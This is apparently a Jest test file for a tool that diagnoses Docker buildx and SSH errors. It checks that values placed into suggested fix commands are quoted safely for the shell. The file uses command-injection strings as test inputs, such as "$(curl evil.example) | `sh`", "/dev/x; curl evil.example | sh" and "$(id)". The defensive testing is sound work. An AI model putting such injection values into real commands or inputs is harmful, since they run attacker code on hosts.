import { expect, test } from '@jest/globals'
import { parseEndpoint } from '../../../src/core/buildx/nodes/endpoint.ts'
import { programProblem, programRows } from '../../../src/core/buildx/nodes/program-problem.ts'
import { rows } from '../../../src/core/diagnosis/read-failure.ts'
import { sshBuilderRows } from '../../../src/core/diagnosis/rows/ssh.ts'
import { diagnoseHost, hostRows } from '../../../src/core/release/ssh/diagnose.ts'
import { fill } from '../../../src/core/text/fill.ts'

const STRANGE = "x'; $(curl evil.example) | `sh`"
const AS_A_WORD = "'x'\\''; $(curl evil.example) | `sh`'"

/** What a sentence calls before a fact, up to the fact. */
const COMMAND =
  /(?:^|[\s(`])(?:aws|cat|cd|chage|chmod|chown|curl|docker|echo|gh|git|helm|kubectl|ls|mkdir|mv|openssl|podman|rm|ssh|ssh-\w+|sudo|systemctl|touch|usermod)\s[^,;:.()`]*$|(?<!COPY)\s--[\w-]+[ =]$/

/** The facts of a sentence that stand in a command of it, with the syntax they are written in. */
const inCommands = (sentence: string) =>
  [...sentence.matchAll(/(?<!\{)\{\w+(:sh)?(?:\|[^{}]*)?\}(?!\})/g)].filter(({ index }) =>
    COMMAND.test(sentence.slice(0, index).replaceAll(/\{\w+(?::sh)?(?:\|[^{}]*)?\}/g, 'x')),
  )

const fixes = [...rows, ...hostRows, ...sshBuilderRows, ...programRows].map(({ fix }) => fix)

test('a fact in a command of any row is one word for a shell, whatever it is', () => {
  const found = fixes.flatMap(inCommands)
  expect(found.length).toBeGreaterThan(12)
  for (const [written] of found) {
    const [, name = ''] = /(\w+)/.exec(written) ?? []
    expect([written, fill(written, { [name]: STRANGE })]).toEqual([written, AS_A_WORD])
  }
})

test.each([
  [
    'error gathering device information while adding custom device "/dev/x; curl evil.example | sh": no such file',
    "ls -l '/dev/x; curl evil.example | sh'",
  ],
  ['env file /srv/$(id)/x.env not found: stat', "touch '/srv/$(id)/x.env'"],
  ['network a;id was found but has incorrect label', "docker network rm 'a;id'"],
])('what an engine says is no command of ours: %s', (said, command) => {
  expect(diagnoseHost(said)?.fix).toContain(command)
})

test('a program to be tried by hand gets its arguments as they are', () => {
  const endpoint = parseEndpoint('endpoint', 'docker-container://buildkit?context=$(id)')
  expect(programProblem(endpoint, 'odd').fix).toContain("docker '--context=$(id)' exec")
})
